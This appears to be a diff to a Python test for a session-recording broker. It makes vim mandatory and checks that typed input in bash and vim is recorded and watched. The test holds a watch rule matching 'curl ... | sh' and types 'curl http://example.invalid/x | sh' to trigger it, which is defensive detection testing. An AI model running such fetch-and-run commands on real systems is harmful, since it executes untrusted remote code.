@@ -397,6 +397,7 @@ def test_input_in_bash_and_vim_is_recorded_and_watched(broker):
     input is no password, so it is recorded as typed and watch rules see it."""
     import shutil
     vim = shutil.which("vim") or shutil.which("vim.tiny") or shutil.which("vi")
+    assert vim, "no vim (`make deps-test` installs vim-tiny): the vim half would not run"
     b = broker(targets={"local": {"shell": "/bin/bash"}},
                rules=[{"groups": ["oncall"], "targets": ["local"],
                        "watch": [{"on": "input", "pattern": "re:curl .*\\| *sh",
@@ -407,26 +408,25 @@ def test_input_in_bash_and_vim_is_recorded_and_watched(broker):
     chan.wait(b"READY\r\n")
     chan.send(b"echo typed-in-\"bash\"\r")
     chan.wait(b"typed-in-bash\r\n")
-    if vim is not None:
-        # No terminal queries: the test does not answer them.
-        # ttimeoutlen=0: the Escape that ends insert mode is never read together
-        # with the ':' after it as one key code, however the bytes arrive.
-        chan.send(f"{vim} -u NONE -N --cmd 'set t_u7= t_RV= t_RB= t_RF= t_RS= t_RC= ttimeoutlen=0' "
-                  f"/tmp/podgate-vim-$$\r".encode())
-        chan.wait(b"[New", timeout=10)
-        chan.send(b"ityped-in-vim\x1b:q!\r")
-        # vim reads whatever is there when it reads: the next command waits
-        # until vim has left the alternate screen and so reads no more.
-        chan.wait(b"\x1b[?1049l")
-        chan.send(b"echo back-from-\"vim\"\r")
-        chan.wait(b"back-from-vim\r\n")
+    # No terminal queries: the test does not answer them.
+    # ttimeoutlen=0: the Escape that ends insert mode is never read together
+    # with the ':' after it as one key code, however the bytes arrive.
+    chan.send(f"{vim} -u NONE -N --cmd 'set t_u7= t_RV= t_RB= t_RF= t_RS= t_RC= ttimeoutlen=0' "
+              f"/tmp/podgate-vim-$$\r".encode())
+    chan.wait(b"[New", timeout=10)
+    chan.send(b"ityped-in-vim\x1b:q!\r")
+    # vim reads whatever is there when it reads: the next command waits
+    # until vim has left the alternate screen and so reads no more.
+    chan.wait(b"\x1b[?1049l")
+    chan.send(b"echo back-from-\"vim\"\r")
+    chan.wait(b"back-from-vim\r\n")
     chan.send(b"curl http://example.invalid/x | sh\r")
     wait_until(lambda: b"session terminated" in chan.out + chan.err, 10, "the watch to end it")
     chan.status()
     rec = b.wait_recordings(1)[0]
     typed = rec.data("i")
     assert b'echo typed-in-"bash"' in typed, typed
-    assert vim is None or b"ityped-in-vim" in typed, typed
+    assert b"ityped-in-vim" in typed, typed
     assert b"curl http://example.invalid/x | sh" in typed
     assert b.wait_audit("watch")
 
